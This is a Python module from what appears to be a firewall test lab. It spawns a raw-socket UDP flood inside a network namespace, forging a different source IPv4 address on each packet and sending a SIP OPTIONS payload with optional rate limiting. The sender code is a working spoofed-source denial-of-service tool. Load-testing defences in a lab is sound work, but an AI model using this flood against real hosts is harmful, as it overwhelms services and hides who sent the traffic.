"""A UDP flood from many (spoofed) IPv4 source addresses, for the lab.

``spoof_flood`` starts, in a namespace, a sender that writes whole IPv4
packets on a raw socket (``IPPROTO_RAW``: the header is ours, the kernel only
fills in the IP checksum), each from the next address of a range, so
``count`` packets come from ``count`` distinct sources (then it wraps). The
UDP checksum is 0 (optional over IPv4). No C, no tool from apt: a template
packet whose four source bytes change, one ``sendto`` a packet (about
100,000–250,000 packets/s on one core here). The receiving namespace needs
``rp_filter`` off on its interface (the lab's default) and needs no route
back. The sender prints ``{"sent": N, "seconds": S, "utime": U, "stime": T}``
when done (its CPU seconds, user and system).
"""

from __future__ import annotations

import ipaddress
import json
import subprocess
import sys

from .lab import Lab

__all__ = ["spoof_flood"]

_SENDER = r"""
import json, socket, struct, sys, time
spec = json.loads(sys.argv[1])
payload = spec["payload"].encode()
first, count = spec["first"], spec["count"]
dst = socket.inet_aton(spec["dst"])
udp = struct.pack("!HHHH", spec["sport"], spec["port"], 8 + len(payload), 0) + payload
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, b"\0\0\0\0", dst)
pkt = bytearray(head + udp)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
target = (spec["dst"], 0)
pps, seconds, total = spec["pps"], spec["seconds"], spec["total"]
pack_into, sendto = struct.pack_into, s.sendto
sent, i = 0, 0
start = time.monotonic()
end = start + seconds
while sent < total:
    # A batch between clock reads: the pacing and the deadline cost little.
    for _ in range(min(256, total - sent)):
        pack_into("!I", pkt, 12, first + i)
        i += 1
        if i == count:
            i = 0
        try:
            sendto(pkt, target)
            sent += 1
        except OSError:
            pass
    now = time.monotonic()
    if now >= end:
        break
    if pps:
        ahead = start + sent / pps - now
        if ahead > 0:
            time.sleep(ahead)
# The receiving side of a veth runs in the sender's system calls (softirq on
# the way out of sendto), so its system time holds the firewall's cost too.
import resource
use = resource.getrusage(resource.RUSAGE_SELF)
elapsed = time.monotonic() - start
print(json.dumps({"sent": sent, "seconds": elapsed, "utime": use.ru_utime, "stime": use.ru_stime}), flush=True)
"""


def spoof_flood(
    lab: Lab,
    ns: str,
    *,
    sources: str,
    dst: str,
    port: int = 5060,
    seconds: float = 5.0,
    pps: int = 0,
    total: int = 1 << 62,
    payload: str = "OPTIONS sip:flood@pbx SIP/2.0\r\n\r\n",
    sport: int = 5060,
    count: int = 0,
) -> subprocess.Popen[str]:
    """Start the flood from ``ns``: packets from the addresses of ``sources``
    (a CIDR: one distinct source each, in order, wrapping) to ``dst:port``,
    for ``seconds`` or ``total`` packets, at most ``pps`` a second (0: as
    fast as it can). ``count``: only the first ``count`` addresses of
    ``sources`` (0: all). Wait for it with ``result``; the lab kills it."""
    net = ipaddress.IPv4Network(sources)
    spec = {
        "first": int(net.network_address),
        "count": min(count, net.num_addresses) if count else net.num_addresses,
        "dst": dst,
        "port": port,
        "sport": sport,
        "seconds": seconds,
        "pps": pps,
        "total": total,
        "payload": payload,
    }
    return lab.spawn(ns, [sys.executable, "-c", _SENDER, json.dumps(spec)])


def result(proc: subprocess.Popen[str], timeout: float) -> dict[str, float]:
    """What a finished flood printed (``sent``, ``seconds``, ``utime``, ``stime``)."""
    out, _ = proc.communicate(timeout=timeout)
    data: dict[str, float] = json.loads(out)
    return data
